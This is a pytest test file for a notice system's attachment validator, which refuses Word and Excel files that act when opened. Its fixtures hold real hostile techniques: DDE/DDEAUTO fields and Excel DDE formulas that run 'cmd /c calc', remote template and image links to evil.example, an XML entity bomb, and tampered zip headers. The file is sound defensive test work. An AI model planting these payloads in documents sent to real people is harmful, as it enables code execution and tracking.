"""Word and Excel attachments that run or fetch something when opened are refused, with
what to do (save as PDF): a remote attachedTemplate, any other relationship outside the
file but a hyperlink, DDE/DDEAUTO fields, embedded OLE objects, ActiveX controls, macro
projects and Excel external (DDE) links. Each hostile file is built here with zipfile."""

from __future__ import annotations

import io
import struct
import warnings
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from notices.errors import NoticeError
from notices.models import NoticeAttachment, NoticeState
from notices.services.notices import attachment_add
from tests.notices.conftest import csrf_client, csrf_post, make_notice

WHAT_TO_DO = "请另存为 PDF 后上传"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG = "http://schemas.openxmlformats.org/package/2006/relationships"
CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    b"</Types>"
)  # fmt: skip


def _rels(*relationships: tuple[str, str, str | None]) -> bytes:
    items = "".join(
        f'<Relationship Id="rId{n}" Type="{kind}" Target="{target}"'
        + (f' TargetMode="{mode}"' if mode else "")
        + "/>"
        for n, (kind, target, mode) in enumerate(relationships, start=1)
    )
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PKG}">{items}</Relationships>'
    ).encode()


def _document(body: str) -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>'
        f'<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body>{body}</w:body></w:document>'
    ).encode()


PARAGRAPH = "<w:p><w:r><w:t>学籍信息更正申请表</w:t></w:r></w:p>"


def _field(*code_runs: str) -> str:
    """A complex field whose code is split over runs, as Word writes it."""
    runs = "".join(
        f'<w:r><w:instrText xml:space="preserve">{c}</w:instrText></w:r>' for c in code_runs
    )
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'{runs}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        '<w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )  # fmt: skip


def docx(parts: dict[str, bytes] | None = None) -> dict[str, bytes]:
    """A small real .docx (a paragraph and a web link); `parts` add or replace parts."""
    entries = {
        "[Content_Types].xml": CONTENT_TYPES,
        "_rels/.rels": _rels((f"{R}/officeDocument", "word/document.xml", None)),
        "word/document.xml": _document(PARAGRAPH),
        "word/_rels/document.xml.rels": _rels(
            (f"{R}/hyperlink", "https://www.chsi.com.cn/", "External"),
            (f"{R}/settings", "settings.xml", None),
        ),
        "word/settings.xml": f'<w:settings xmlns:w="{W}"/>'.encode(),
    }
    return {**entries, **(parts or {})}


def _zip(entries: dict[str, bytes], name: str = "form.docx") -> SimpleUploadedFile:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for entry, content in entries.items():
            archive.writestr(entry, content)
    return SimpleUploadedFile(name, buffer.getvalue())


@pytest.fixture
def draft(world):
    return make_notice(world, state=NoticeState.DRAFT)


def _add(world, notice, entries, name="form.docx"):
    return attachment_add(
        notice=notice,
        by=world.registrar,
        title="附件 2",
        upload=_zip(entries, name),
        is_public=True,
    )


REMOTE_TEMPLATE = _rels((f"{R}/attachedTemplate", "https://evil.example/template.dotm", "External"))

SETTINGS_RELS = "word/_rels/settings.xml.rels"
DOCUMENT_RELS = "word/_rels/document.xml.rels"
DDE_SIMPLE = (
    '<w:p><w:fldSimple w:instr=" dde &quot;cmd&quot; &quot;/c calc&quot; ">'
    "<w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>"
)

HOSTILE = {
    "remote_attached_template": docx({SETTINGS_RELS: REMOTE_TEMPLATE}),
    # The attribute's value written as a character reference still reads "External".
    "remote_template_entity_encoded": docx(
        {SETTINGS_RELS: REMOTE_TEMPLATE.replace(b'"External"', b'"&#69;xternal"')}
    ),
    "external_image_beacon": docx(
        {DOCUMENT_RELS: _rels((f"{R}/image", "http://evil.example/pixel.png", "External"))}
    ),
    "ole_object_relationship": docx(
        {DOCUMENT_RELS: _rels((f"{R}/oleObject", "media/x.xls", None))}
    ),
    "ddeauto_field_split_over_runs": docx(
        {"word/document.xml": _document(PARAGRAPH + _field(" DD", 'EAUTO cmd.exe "/k calc"'))}
    ),
    "dde_simple_field": docx({"word/document.xml": _document(DDE_SIMPLE)}),
    "ddeauto_in_footer": docx(
        {"word/footer1.xml": f'<w:ftr xmlns:w="{W}">{_field("DdEaUtO cmd /c calc")}</w:ftr>'.encode()}
    ),
    "embedded_ole_object": docx({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0 ole"}),
    "embedded_package": docx({"word/embeddings/Microsoft_Excel_Worksheet.xlsx": b"PK"}),
    "activex_control": docx({"word/activeX/activeX1.xml": b"<ax:ocx/>"}),
    "vba_project": docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 vba"}),
}  # fmt: skip

XLSX = {
    "[Content_Types].xml": b'<Types><Override ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>',
    "_rels/.rels": _rels((f"{R}/officeDocument", "xl/workbook.xml", None)),
    "xl/workbook.xml": b"<workbook/>",
}  # fmt: skip

HOSTILE_XLSX = {
    "embedded_ole_object": {**XLSX, "xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"},
    "dde_external_link": {
        **XLSX,
        "xl/externalLinks/externalLink1.xml": b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
        "xl/_rels/workbook.xml.rels": _rels((f"{R}/externalLink", "externalLinks/externalLink1.xml", None)),
    },
    "excel4_macro_sheet": {
        **XLSX,
        "xl/_rels/workbook.xml.rels": _rels(("http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "macrosheets/sheet1.xml", None)),
    },
    "remote_workbook_link": {
        **XLSX,
        "xl/_rels/workbook.xml.rels": _rels((f"{R}/externalLinkPath", "https://evil.example/a.xlsx", "External")),
    },
}  # fmt: skip


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_a_docx_that_acts_when_opened_is_refused_with_what_to_do(world, draft, case):
    with pytest.raises(NoticeError, match=WHAT_TO_DO):
        _add(world, draft, HOSTILE[case])

    assert not NoticeAttachment.objects.exists()


@pytest.mark.parametrize("case", sorted(HOSTILE_XLSX))
def test_an_xlsx_that_acts_when_opened_is_refused_with_what_to_do(world, draft, case):
    with pytest.raises(NoticeError, match=WHAT_TO_DO):
        _add(world, draft, HOSTILE_XLSX[case], name="sheet.xlsx")


def test_a_plain_docx_with_web_links_and_ordinary_fields_is_accepted(world, draft):
    body = (
        PARAGRAPH
        + _field(' HYPERLINK "https://www.chsi.com.cn/" ')
        + '<w:p><w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>'
    )
    footer = f'<w:ftr xmlns:w="{W}">{_field(" NUMPAGES ")}</w:ftr>'.encode()
    upload = _zip(docx({"word/document.xml": _document(body), "word/footer1.xml": footer}))

    attachment = attachment_add(
        notice=draft, by=world.registrar, title="附件 2", upload=upload, is_public=True
    )

    assert attachment.extension == ".docx"
    upload.seek(0)
    assert attachment.file.read() == upload.read()


def test_a_document_type_declaration_in_a_part_is_refused(world, draft):
    bomb = (
        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa">'
        b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
        b'<Relationships xmlns="' + PKG.encode() + b'">&b;</Relationships>'
    )

    with pytest.raises(NoticeError, match="文件结构异常"):
        _add(world, draft, docx({DOCUMENT_RELS: bomb}))


def test_the_attachment_page_shows_why_a_remote_template_is_refused(world, draft):
    client = csrf_client(world.registrar)
    data = {
        "title": "附件 2 申请表",
        "file": _zip(HOSTILE["remote_attached_template"]),
        "is_public": "on",
    }

    response = csrf_post(client, f"/notices/manage/{draft.pk}/attachments/", data, follow=True)

    assert response.redirect_chain[-1][0] == f"/notices/manage/{draft.pk}/"
    assert WHAT_TO_DO in response.content.decode()
    assert not NoticeAttachment.objects.exists()


# Word finds its main document through `_rels/.rels` (then that part's own .rels), not by
# the name word/document.xml: every part that reads as XML is checked for fields.
DDEAUTO_BODY = _document(PARAGRAPH + _field(" DDE", 'AUTO cmd.exe "/k calc"'))
HIDDEN_MAIN = {
    "main_part_renamed_through_rels": docx(
        {
            "_rels/.rels": _rels((f"{R}/officeDocument", "word/main.xml", None)),
            "word/main.xml": DDEAUTO_BODY,
        }
    ),
    "main_part_outside_word_folder": docx(
        {
            "_rels/.rels": _rels((f"{R}/officeDocument", "content/body.xml", None)),
            "content/body.xml": DDEAUTO_BODY,
        }
    ),
    "main_part_without_xml_extension": docx(
        {
            "_rels/.rels": _rels((f"{R}/officeDocument", "word/main.dat", None)),
            "word/main.dat": DDEAUTO_BODY,
        }
    ),
    "header_under_an_unusual_name": docx(
        {"word/page-top.xml": f'<w:hdr xmlns:w="{W}">{DDE_SIMPLE}</w:hdr>'.encode()}
    ),
}


@pytest.mark.parametrize("case", sorted(HIDDEN_MAIN))
def test_a_dde_field_in_a_part_found_through_the_relationships_is_refused(world, draft, case):
    assert b"DDE" not in HIDDEN_MAIN[case]["word/document.xml"]  # the usual part is clean

    with pytest.raises(NoticeError, match=WHAT_TO_DO):
        _add(world, draft, HIDDEN_MAIN[case])

    assert not NoticeAttachment.objects.exists()


def _zip_entries(entries: list[tuple[str, bytes]]) -> SimpleUploadedFile:
    buffer = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # zipfile: "Duplicate name"
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
            for entry, content in entries:
                archive.writestr(entry, content)
    return SimpleUploadedFile("form.docx", buffer.getvalue())


@pytest.mark.parametrize(
    "second", ["word/document.xml", "word/Document.xml", "word/./document.xml"]
)
def test_a_package_with_two_entries_under_one_name_is_refused(world, draft, second):
    entries = [*docx().items(), (second, DDEAUTO_BODY)]

    with pytest.raises(NoticeError, match="文件结构异常"):
        attachment_add(
            notice=draft,
            by=world.registrar,
            title="附件 2",
            upload=_zip_entries(entries),
            is_public=True,
        )

    assert not NoticeAttachment.objects.exists()


S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def _sheet(*formulas: str) -> bytes:
    cells = "".join(
        f'<c r="A{n}"><f>{formula}</f><v>0</v></c>' for n, formula in enumerate(formulas, 1)
    )
    return f'<worksheet xmlns="{S}"><sheetData><row r="1">{cells}</row></sheetData></worksheet>'.encode()


def _xlsx(**parts: bytes) -> dict[str, bytes]:
    return {
        **XLSX,
        "xl/workbook.xml": f'<workbook xmlns="{S}"><sheets/></workbook>'.encode(),
        "xl/worksheets/sheet1.xml": _sheet("SUM(B1:B3)"),
        **parts,
    }


DDE_FORMULAS = {
    "cmd_pipe": _xlsx(**{"xl/worksheets/sheet1.xml": _sheet("SUM(B1:B3)", "cmd|' /C calc'!A0")}),
    "pipe_inside_a_function": _xlsx(
        **{"xl/worksheets/sheet2.xml": _sheet("HYPERLINK(msexcel|'\\..\\..\\windows\\system32\\cmd.exe /c calc'!''\"\")")}
    ),
    "dde_function": _xlsx(**{"xl/worksheets/sheet1.xml": _sheet('DDE("cmd","/c calc","x")')}),
    "ddeauto_function": _xlsx(**{"xl/worksheets/sheet1.xml": _sheet('ddeauto ("cmd","/c calc","x")')}),
    "dde_defined_name": _xlsx(
        **{"xl/workbook.xml": f"<workbook xmlns=\"{S}\"><definedNames><definedName name=\"x\">cmd|'/c calc'!A0</definedName></definedNames></workbook>".encode()}
    ),
}  # fmt: skip


@pytest.mark.parametrize("case", sorted(DDE_FORMULAS))
def test_an_xlsx_with_a_dde_formula_is_refused(world, draft, case):
    with pytest.raises(NoticeError, match=WHAT_TO_DO):
        _add(world, draft, DDE_FORMULAS[case], name="sheet.xlsx")

    assert not NoticeAttachment.objects.exists()


def test_an_xlsx_with_ordinary_formulas_is_accepted(world, draft):
    sheet = _sheet("SUM(B1:B3)", "'学生 名单'!A1&amp;\"|\"", "VLOOKUP(A1,Sheet2!A:B,2,FALSE)")

    attachment = _add(world, draft, _xlsx(**{"xl/worksheets/sheet1.xml": sheet}), "sheet.xlsx")

    assert attachment.extension == ".xlsx"


# Field codes are read field by field: two fields' codes run together ("MERGEFORMAT" +
# "DDEAUTO") must not hide the second one's DDE.
FIELDS_IN_A_ROW = {
    "ddeauto_after_a_mergeformat_field": _field(" PAGE \\* MERGEFORMAT")
    + _field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'),
    "dde_after_a_simple_field_and_a_quote_field": (
        '<w:p><w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>'
        + _field("QUOTE abc")
        + _field('DDE cmd "/c calc"')
    ),
    "dde_split_over_runs_after_a_field": _field("QUOTE abc") + _field("D", "de", "AUTO cmd"),
    "dde_as_a_later_word_of_a_field": _field(' QUOTE "x" DDEAUTO cmd "/c calc" '),
    "ddeauto_nested_in_another_field": (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText>IF 1 = 1 </w:instrText></w:r>'
        + _field("MERGEFORMAT")
        + _field("ddeauto cmd ")
        + '<w:r><w:instrText> "a" "b"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    ),
}  # fmt: skip


@pytest.mark.parametrize("case", sorted(FIELDS_IN_A_ROW))
def test_a_dde_field_right_after_another_field_is_refused(world, draft, case):
    entries = docx({"word/document.xml": _document(PARAGRAPH + FIELDS_IN_A_ROW[case])})

    with pytest.raises(NoticeError, match=WHAT_TO_DO):
        _add(world, draft, entries)

    assert not NoticeAttachment.objects.exists()


# Every part is read as XML, whatever its name and however much whitespace comes first;
# only a picture, font or printer-settings part that does not start like XML is skipped.
UNUSUAL_PARTS = {
    "whitespace_before_the_xml": docx(
        {
            "_rels/.rels": _rels((f"{R}/officeDocument", "word/main.dat", None)),
            "word/main.dat": b" \r\n\t" * 100 + DDEAUTO_BODY,
        }
    ),
    "xml_under_a_picture_name": docx(
        {
            "_rels/.rels": _rels((f"{R}/officeDocument", "word/media/image1.png", None)),
            "word/media/image1.png": b"\n" * 200 + DDEAUTO_BODY,
        }
    ),
}


@pytest.mark.parametrize("case", sorted(UNUSUAL_PARTS))
def test_a_dde_field_in_a_part_that_does_not_look_like_xml_at_first_is_refused(world, draft, case):
    with pytest.raises(NoticeError, match=WHAT_TO_DO):
        _add(world, draft, UNUSUAL_PARTS[case])

    assert not NoticeAttachment.objects.exists()


def test_a_part_that_is_neither_xml_nor_a_known_binary_medium_is_refused(world, draft):
    with pytest.raises(NoticeError, match="文件结构异常"):
        _add(world, draft, docx({"word/notes.dat": b"DDEAUTO cmd /c calc"}))


def test_a_docx_with_pictures_fonts_and_printer_settings_is_accepted(world, draft):
    png = io.BytesIO()
    Image.new("RGB", (4, 4), (0, 90, 160)).save(png, "PNG")
    entries = docx(
        {
            "word/media/image1.png": png.getvalue(),
            "docProps/thumbnail.jpeg": b"\xff\xd8\xff\xe0\x00\x10JFIF\x00",
            "word/fonts/font1.odttf": b"\x8a\x91\x00\x01\x00\x00",
            "word/printerSettings/printerSettings1.bin": b"\x00\x00\x01\x02",
        }
    )

    assert _add(world, draft, entries).extension == ".docx"


def _with_flags(entries: dict[str, bytes], *, flags: int = 0, method: int | None = None):
    """A stored .docx whose every entry claims `flags` (0x1: encrypted) and, when given,
    the compression `method` (9: Deflate64), as a hostile or exotic zip tool writes it."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        for entry, content in entries.items():
            archive.writestr(entry, content)
    data = bytearray(buffer.getvalue())
    for signature, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = data.find(signature)
        while start != -1:
            old_flags, old_method = struct.unpack_from("<HH", data, start + at)
            struct.pack_into("<HH", data, start + at, old_flags | flags, method or old_method)
            start = data.find(signature, start + 4)
    return SimpleUploadedFile("form.docx", bytes(data))


UNREADABLE = {
    "encrypted_entries": {"flags": 0x1},
    "deflate64_entries": {"method": 9},
}


@pytest.mark.parametrize("case", sorted(UNREADABLE))
def test_a_docx_zipfile_cannot_read_is_refused_as_malformed(world, draft, case):
    upload = _with_flags(docx(), **UNREADABLE[case])

    with pytest.raises(NoticeError, match="文件结构异常"):
        attachment_add(
            notice=draft, by=world.registrar, title="附件 2", upload=upload, is_public=True
        )

    assert not NoticeAttachment.objects.exists()


@pytest.mark.parametrize("case", sorted(UNREADABLE))
def test_the_attachment_page_refuses_an_unreadable_docx_without_an_error(world, draft, case):
    client = csrf_client(world.registrar)
    data = {
        "title": "附件 2 申请表",
        "file": _with_flags(docx(), **UNREADABLE[case]),
        "is_public": "on",
    }

    response = csrf_post(client, f"/notices/manage/{draft.pk}/attachments/", data, follow=True)

    assert response.status_code == 200
    assert "文件结构异常" in response.content.decode()
    assert not NoticeAttachment.objects.exists()
